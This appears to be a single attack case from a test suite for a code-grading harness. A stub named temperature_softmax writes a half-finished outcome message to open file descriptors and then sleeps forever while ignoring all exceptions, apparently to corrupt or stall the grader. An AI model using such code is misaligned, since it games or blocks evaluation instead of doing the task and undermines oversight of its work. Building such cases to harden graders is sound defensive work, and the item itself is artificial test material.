# attack: a function writes half a message and falls asleep
# family: resources
# base: solved
# points: 5
# %% temperature_softmax
import os, time

def temperature_softmax(x, temperature, axis=-1):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\0\0\0\x40{\"outcome\"")
        except OSError:
            pass
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass
